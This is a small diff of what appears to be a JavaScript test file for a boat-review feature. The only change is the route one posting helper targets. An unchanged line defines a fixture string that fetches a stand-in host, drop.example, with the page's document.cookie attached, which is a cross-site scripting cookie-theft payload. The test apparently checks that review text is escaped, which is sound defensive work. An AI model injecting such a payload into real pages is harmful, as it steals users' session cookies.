@@ -2,7 +2,7 @@ const REVIEW = { author: 'A guest', website: '', rating: '5', text: 'Fair winds.
 const DRAIN = "fetch('https://drop.example/?c=' + document.cookie)";
 
 /** Sends a review the way a browser does. */
-const byForm = (app) => (fields) => app.post('/boats/1/reviews', { ...REVIEW, ...fields });
+const byForm = (app) => (fields) => app.post('/boats/1', { ...REVIEW, ...fields });
 
 /** Puts a review where it has been since before today's code. */
 const fromBefore = (database) => (fields) => {
